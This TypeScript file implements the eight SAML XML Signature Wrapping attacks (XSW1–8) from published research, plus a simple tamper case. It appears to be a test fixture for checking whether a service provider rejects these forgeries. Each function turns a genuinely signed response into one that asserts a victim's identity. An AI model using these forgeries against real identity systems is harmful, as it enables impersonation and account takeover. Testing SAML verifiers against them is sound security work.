// The XML signature wrapping variants (Somorovsky et al., "On Breaking SAML", XSW1–8), built on a
// response the IdP really signed for the attacker: each moves the signed element somewhere the
// signature still verifies and puts an evil assertion (another user, the same ID) where a naive SP reads.
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

const DS = "http://www.w3.org/2000/09/xmldsig#";
const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";

const parse = (xml: string) => new DOMParser().parseFromString(xml, "text/xml");
const text = (doc: Document) => new XMLSerializer().serializeToString(doc);

function firstChild(parent: Element, ns: string, local: string): Element {
  const found = Array.from(parent.childNodes).find(
    (n) => n.nodeType === 1 && (n as Element).localName === local && (n as Element).namespaceURI === ns,
  );
  if (!found) throw new Error(`no ${local}`);
  return found as Element;
}

/** Rewrites the assertion's NameID and email attribute to `victim` (the forgery). */
function forge(assertion: Element, victim: string): void {
  for (const el of Array.from(assertion.getElementsByTagNameNS(SAML, "NameID"))) el.textContent = victim;
  for (const el of Array.from(assertion.getElementsByTagNameNS(SAML, "AttributeValue")))
    if (el.textContent?.includes("@")) el.textContent = victim;
}

function removeSignatures(el: Element): void {
  for (const sig of Array.from(el.getElementsByTagNameNS(DS, "Signature"))) sig.parentNode?.removeChild(sig);
}

/** XSW variants for a response whose Response is signed (1, 2) or whose Assertion is signed (3–8). */
export const XSW: Record<string, (signedXml: string, victim: string) => string> = {
  // XSW1: evil response at the root; the signed original inside the evil response's Signature.
  XSW1(xml, victim) {
    const doc = parse(xml);
    const root = doc.documentElement;
    const original = root.cloneNode(true) as Element;
    const sig = firstChild(root, DS, "Signature");
    forge(firstChild(root, SAML, "Assertion"), victim);
    removeSignatures(original);
    sig.appendChild(original);
    return text(doc);
  },
  // XSW2: as XSW1, the original placed before the Signature (a detached signature).
  XSW2(xml, victim) {
    const doc = parse(xml);
    const root = doc.documentElement;
    const original = root.cloneNode(true) as Element;
    const sig = firstChild(root, DS, "Signature");
    forge(firstChild(root, SAML, "Assertion"), victim);
    removeSignatures(original);
    root.insertBefore(original, sig);
    return text(doc);
  },
  // XSW3: an unsigned evil assertion (same ID) before the signed one.
  XSW3(xml, victim) {
    const doc = parse(xml);
    const assertion = firstChild(doc.documentElement, SAML, "Assertion");
    const evil = assertion.cloneNode(true) as Element;
    removeSignatures(evil);
    forge(evil, victim);
    doc.documentElement.insertBefore(evil, assertion);
    return text(doc);
  },
  // XSW4: the evil assertion wraps the signed one.
  XSW4(xml, victim) {
    const doc = parse(xml);
    const assertion = firstChild(doc.documentElement, SAML, "Assertion");
    const evil = assertion.cloneNode(true) as Element;
    removeSignatures(evil);
    forge(evil, victim);
    doc.documentElement.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return text(doc);
  },
  // XSW5: the evil assertion carries the signature; the original, unsigned, is appended to the Response.
  XSW5(xml, victim) {
    const doc = parse(xml);
    const assertion = firstChild(doc.documentElement, SAML, "Assertion");
    const original = assertion.cloneNode(true) as Element;
    removeSignatures(original);
    forge(assertion, victim);
    doc.documentElement.appendChild(original);
    return text(doc);
  },
  // XSW6: the evil assertion carries the signature, with the original inside that Signature.
  XSW6(xml, victim) {
    const doc = parse(xml);
    const assertion = firstChild(doc.documentElement, SAML, "Assertion");
    const original = assertion.cloneNode(true) as Element;
    removeSignatures(original);
    forge(assertion, victim);
    firstChild(assertion, DS, "Signature").appendChild(original);
    return text(doc);
  },
  // XSW7: the signed assertion hidden in an Extensions element; the evil one in its place.
  XSW7(xml, victim) {
    const doc = parse(xml);
    const root = doc.documentElement;
    const assertion = firstChild(root, SAML, "Assertion");
    const evil = assertion.cloneNode(true) as Element;
    removeSignatures(evil);
    forge(evil, victim);
    const ext = doc.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:Extensions");
    root.replaceChild(evil, assertion);
    ext.appendChild(assertion);
    root.insertBefore(ext, evil);
    return text(doc);
  },
  // XSW8: the evil assertion's Signature holds an Object with the original (unsigned) assertion.
  XSW8(xml, victim) {
    const doc = parse(xml);
    const assertion = firstChild(doc.documentElement, SAML, "Assertion");
    const original = assertion.cloneNode(true) as Element;
    removeSignatures(original);
    forge(assertion, victim);
    const object = doc.createElementNS(DS, "ds:Object");
    object.appendChild(original);
    firstChild(assertion, DS, "Signature").appendChild(object);
    return text(doc);
  },
};

/** Changes the NameID after signing (the signature must then fail). */
export function tamper(xml: string, victim: string): string {
  const doc = parse(xml);
  forge(firstChild(doc.documentElement, SAML, "Assertion"), victim);
  return text(doc);
}
